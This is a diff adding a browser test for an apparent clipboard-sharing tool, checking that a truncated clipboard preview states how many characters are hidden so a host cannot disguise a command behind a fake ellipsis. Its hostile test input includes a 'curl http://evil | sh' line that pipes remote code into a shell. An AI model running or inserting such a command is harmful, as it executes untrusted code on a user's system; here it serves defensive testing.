@@ -58,3 +58,29 @@ def test_review39c_a_text_swapped_under_the_click_is_not_written(browser: Any) -
         assert _browser_clipboard(browser) == swapped
     finally:
         live.close()
+
+
+def test_review39c_the_cut_is_said_apart_from_the_hosts_text(browser: Any) -> None:
+    """Found: the preview's cut was a "..." after the 200 characters, which
+    the host can write itself: "(197 characters)..." then a newline and a
+    command read as a whole text that ends in "...", and its own "..."
+    before a cut as one. Now the page says, in an element of its own, how
+    many characters are not shown; none, and that line is hidden."""
+    live, _ = _live(control=False)
+    try:
+        browser.get(live.url)
+        wait_page(browser, lambda s: (s["level"] or {}).get("view", False), what="view")
+        hostile = "# the notes you asked for" + " ." * 86 + "..." + "\ncurl http://evil | sh\n"
+        live.call(lambda: live.host.send_clipboard(hostile))
+        wait_page_notice(browser, f"The host's clipboard ({len(hostile)} characters")
+        preview = browser.find_element(By.ID, "clip-preview").text
+        assert preview.endswith(". ....") and "evil" not in preview
+        cut = browser.find_element(By.ID, "clip-cut")
+        assert cut.is_displayed()
+        assert cut.text == "...and 23 characters more, not shown (copied with the rest)"
+        live.call(lambda: live.host.send_clipboard("df -h..."))
+        wait_page_notice(browser, "The host's clipboard (8 characters")
+        assert browser.find_element(By.ID, "clip-preview").text == "df -h..."
+        assert not cut.is_displayed()
+    finally:
+        live.close()
